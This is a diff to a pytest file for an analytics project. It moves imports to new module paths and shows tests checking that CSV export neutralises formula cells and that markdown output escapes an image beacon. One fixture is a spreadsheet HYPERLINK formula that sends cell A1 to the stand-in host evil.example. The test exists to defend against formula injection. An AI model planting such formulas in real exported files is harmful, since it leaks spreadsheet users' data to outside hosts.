@@ -6,8 +6,10 @@ from __future__ import annotations
 
 import pytest
 
-from analytics import export, schema, upload
-from analytics.db import Workspace
+from analytics.export import table_files
+from analytics.ingest import upload
+from analytics.store import schema
+from analytics.store.db import Workspace
 from tests import tiny
 from tests.hostile import corpus
 
@@ -109,7 +111,7 @@ def test_formula_cells_load_as_text_and_are_neutralised_on_export(ws):
     upload.load(ws, [upload.FileSpec("formula_cells.csv", data, "workers", "append")])
     rows = ws.sql("SELECT worker_id, full_name, department FROM workers WHERE worker_id IN ('E7', 'E8', 'E9') ORDER BY 1")
     assert rows["full_name"].tolist()[2] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    csv = export.to_csv_bytes(rows).decode("utf-8")
+    csv = table_files.to_csv_bytes(rows).decode("utf-8")
     for line in csv.splitlines()[1:]:
         for cell in line.split(",")[1:2]:
             assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")), line
@@ -188,7 +190,7 @@ BEACON = "![t](http://127.0.0.1:9/beacon.png)"
 
 
 def test_md_literal_escapes_every_markdown_starter():
-    from analytics.safe_text import md_literal
+    from analytics.export.safe_text import md_literal
 
     assert md_literal(BEACON) == r"\!\[t\](http://127.0.0.1:9/beacon.png)"
     assert md_literal("<img src=x> :red[x] $x$ *a* _b_ `c`\nd") == r"\<img src=x\> :red\[x\] \$x\$ \*a\* \_b\_ \`c\` d"
